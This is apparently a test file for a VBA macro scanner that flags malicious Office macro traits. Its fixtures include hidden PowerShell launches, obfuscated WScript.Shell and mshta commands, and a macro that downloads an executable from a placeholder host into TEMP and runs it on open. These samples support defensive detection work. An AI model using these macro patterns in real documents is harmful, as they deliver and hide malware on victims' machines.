import assert from "node:assert/strict";
import { describe, it } from "node:test";
import * as fc from "fast-check";
import { chooseRuns } from "../../tree/fuzz-runs.test-support.ts";
import { surveyVba } from "./survey-vba.ts";

type Signs = ReturnType<typeof surveyVba>["signs"];

function survey(...lines: readonly string[]): Signs {
  const source = ['Attribute VB_Name = "ThisDocument"', ...lines].join("\r\n");
  return surveyVba([{ name: "ThisDocument", kind: "class", source, isSourceMissing: false }]).signs;
}

function tell(signs: Signs): string[] {
  return signs.map(({ kind, target }) => `${kind}: ${target}`);
}

describe("a macro", () => {
  it("that starts a program when its document is opened", () => {
    const signs = survey("Private Sub Document_Open()", '  Shell "powershell -w hidden -c 1", vbHide', "End Sub");
    assert.deepEqual(tell(signs), ["runs-on-open: document_open", "starts-program: powershell -w hidden -c 1"]);
    assert.equal(signs[1]?.line, 3);
  });

  it("that puts its command together from pieces", () => {
    const signs = survey(
      "Sub AutoOpen()",
      "  Dim a As String",
      '  a = "pow" & "ersh" & _',
      '      "ell " & Chr(45) & "enc 00"',
      '  CreateObject("WScr" & "ipt.Sh" & "ell").Run a, 0',
      "End Sub",
    );
    assert.deepEqual(tell(signs), [
      "runs-on-open: autoopen",
      "hides: powershell -enc 00",
      "starts-program: powershell -enc 00",
    ]);
  });

  it("that turns its text around or spells it in numbers", () => {
    const signs = survey("Sub Auto_Open()", 'x = StrReverse("exe.athsm")', "Shell x", "End Sub");
    assert.ok(tell(signs).includes("starts-program: mshta.exe"));
    assert.ok(tell(signs).includes("hides: mshta.exe"));
    const spelled = Array.from("mshta http://a", (letter) => `Chr(${letter.charCodeAt(0)})`).join(" & ");
    assert.ok(tell(survey(`Shell ${spelled}`)).includes("starts-program: mshta http://a"));
  });

  it("that reckons out what it starts", () => {
    const signs = survey(
      "Function D(t)",
      "  For i = 1 To Len(t) Step 2",
      '    D = D & Chr("&H" & Mid(t, i, 2))',
      "  Next i",
      "End Function",
      'Shell D("636d64")',
    );
    assert.deepEqual(
      signs.map(({ kind }) => kind),
      ["starts-program", "hides"],
    );
    assert.deepEqual(tell(survey("x = Chr(Asc(Mid(s, 1, 1)) Xor 3)")), []);
  });

  it("that fetches a file and starts it", () => {
    const signs = survey(
      'Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal a As Long) As Long',
      "Sub Workbook_Open()",
      '  URLDownloadToFileA 0, "http://files.example/a.exe", Environ("TEMP") & "\\a.exe", 0, 0',
      '  Set s = CreateObject("Shell.Application")',
      '  s.ShellExecute Environ("TEMP") & "\\a.exe"',
      "End Sub",
    );
    assert.deepEqual(tell(signs), [
      "runs-on-open: workbook_open",
      "fetches: http://files.example/a.exe",
      "starts-program: %TEMP%\\a.exe",
    ]);
  });

  it("that asks a server, or has Windows' management start a process", () => {
    const asks = survey('Set h = CreateObject("MSXML2.XMLHTTP")', 'h.Open "GET", "http://files.example/x", False');
    assert.deepEqual(tell(asks), ["fetches: http://files.example/x"]);
    const manages = survey(
      'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")',
      'w.Create "calc.exe", Null, Null, n',
    );
    assert.deepEqual(tell(manages), ["starts-program: calc.exe"]);
  });

  it("with a value that is set in a module behind it", () => {
    const first = { name: "A", kind: "procedural", source: "Shell line1", isSourceMissing: false } as const;
    const { signs } = surveyVba([first, { ...first, name: "B", source: 'Const line1 = "cmd /c x"' }]);
    assert.deepEqual(tell(signs), ["starts-program: cmd /c x"]);
  });
});

describe("an ordinary macro", () => {
  it("of a finance workbook has nothing of note", () => {
    const signs = survey(
      "Option Explicit",
      "Private Sub CommandButton1_Click()",
      "  Dim shell As Object, ws As Worksheet, i As Long",
      '  Set ws = ThisWorkbook.Sheets("Totals") \' Shell "cmd" is only a remark',
      '  ws.Range("A1").Value = "Total" & Chr(10) & Chr(13) & Chr(34) & Format(Now, "dd.mm.yyyy")',
      '  Application.Run "Recalculate"',
      "  ActiveSheet.Shapes.AddShape Type:=1, Left:=10",
      '  Set fs = CreateObject("Scripting.FileSystemObject")',
      '  Workbooks.Open Filename:="\\\\server\\share\\rates.xlsx"',
      "  For i = 1 To 26: ws.Cells(1, i) = Chr(64 + i): Next i",
      '  ShellExecute 0, "open", "https://intranet.example/help", "", "", 1',
      "End Sub",
    );
    assert.deepEqual(tell(signs), []);
  });

  it("that formats the workbook when it is opened only runs on opening", () => {
    const signs = survey(
      "Private Sub Workbook_Open()",
      '  Sheets("Start").Activate',
      "  Application.Calculate",
      "End Sub",
    );
    assert.deepEqual(tell(signs), ["runs-on-open: workbook_open"]);
  });

  it("that builds addresses from settings hides nothing", () => {
    const signs = survey('p = "https"', 'host = "rates.example"', 'u = p & "://" & host & "/day"');
    assert.deepEqual(tell(signs), []);
  });
});

it("is read in bounded time and memory, whatever stands in it", () => {
  const doubling = `x = "aaaaaaaaaa"\n${"x = x & x & x\n".repeat(50_000)}`;
  assert.deepEqual(tell(survey(doubling)), []);
  assert.deepEqual(tell(survey(`x = ${"(".repeat(50_000)}`)), []);
  assert.deepEqual(tell(survey(`x = ${"Chr(".repeat(50_000)}`)), []);
  survey('x = "' + "a_ _\n".repeat(100_000));
  const parts = fc.constantFrom(
    "Shell ",
    "(",
    ")",
    '"',
    "'",
    "Chr(",
    "1",
    "&",
    "x",
    "=",
    ":",
    " _\r\n",
    "\n",
    "Replace(",
    ",",
    ".",
    "Sub AutoOpen()",
    "&H",
  );
  const { seed, runs } = chooseRuns(500);
  fc.assert(
    fc.property(fc.array(parts, { maxLength: 80 }), (list) => {
      survey(list.join(""));
    }),
    { seed, numRuns: runs },
  );
});
